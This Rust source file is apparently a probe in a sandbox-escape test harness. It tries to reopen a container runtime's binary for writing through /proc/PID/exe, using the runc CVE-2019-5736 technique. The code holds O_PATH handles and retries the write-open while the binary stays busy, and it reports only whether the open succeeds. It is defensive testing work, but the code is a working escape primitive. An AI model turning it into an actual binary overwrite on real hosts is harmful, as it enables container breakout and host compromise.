//! Open a runtime binary for writing through the `/proc/PID/exe` of a process running
//! it (the runc CVE-2019-5736 class): hold an O_PATH handle while it runs, then retry
//! the write-open after it exits. Nothing is written; the open alone is the escape.
use super::*;
use std::time::{Duration, Instant};

fn ids() -> Vec<(u64, u64)> {
    target("RUNTIME_IDS")
        .split(',')
        .filter_map(|p| p.split_once(':'))
        .filter_map(|(d, i)| Some((d.parse().ok()?, i.parse().ok()?)))
        .collect()
}

pub fn run() -> Outcome {
    let ids = ids();
    let mut why = Vec::new();
    let mut held: Vec<(i32, String)> = Vec::new();
    // This process, its ancestors up to the runner (the runtime that started it, when
    // visible), the runner's decoy runtime, and pid 1 when it is the sandbox's own init
    // (ATK_OWN_PID1; never the host's init).
    let decoy = target("DECOY_PID");
    let mut pids = vec!["self".to_string(), decoy.clone()];
    // The walk stops at the runner, which is no runtime (nor is anything above it).
    let runner: i32 = target("RUNNER_PID").parse().unwrap_or(0);
    let mut p = unsafe { libc::getppid() };
    while p > 1 && p != runner {
        pids.push(p.to_string());
        let stat = std::fs::read_to_string(format!("/proc/{p}/stat")).unwrap_or_default();
        // pid (comm) state ppid ...: the comm may hold spaces, so split after ')'.
        p = stat
            .rsplit_once(')')
            .and_then(|(_, rest)| rest.split_whitespace().nth(1))
            .and_then(|v| v.parse().ok())
            .unwrap_or(0);
    }
    if target("OWN_PID1") == "1" {
        pids.push("1".into());
    }
    for pid in &pids {
        let link = format!("/proc/{pid}/exe");
        let fd = unsafe { libc::open(cstr(&link).as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
        if fd < 0 {
            if *pid != "self" {
                why.push(format!("O_PATH {link}: {}", errno()));
            }
            continue;
        }
        let mut st: libc::stat = unsafe { std::mem::zeroed() };
        unsafe { libc::fstat(fd, &mut st) };
        if ids.contains(&(st.st_dev, st.st_ino)) {
            held.push((fd, link));
        } else {
            unsafe { libc::close(fd) };
        }
    }
    let start = Instant::now();
    while !held.is_empty() && start.elapsed() < Duration::from_millis(2500) {
        let mut keep = Vec::new();
        for (fd, link) in held {
            let via = format!("/proc/self/fd/{fd}");
            let w = unsafe { libc::open(cstr(&via).as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
            if w >= 0 {
                unsafe { libc::close(w) };
                return Outcome::Escaped(format!(
                    "opened the runtime binary behind {link} for writing"
                ));
            }
            let e = std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
            if e == libc::ETXTBSY {
                keep.push((fd, link));
            } else {
                why.push(format!("write-open {link}: {}", errname(e)));
            }
        }
        held = keep;
        std::thread::sleep(Duration::from_millis(50));
    }
    for (_, link) in &held {
        why.push(format!("write-open {link}: ETXTBSY until the end"));
    }
    Outcome::Blocked(why.join("; "))
}
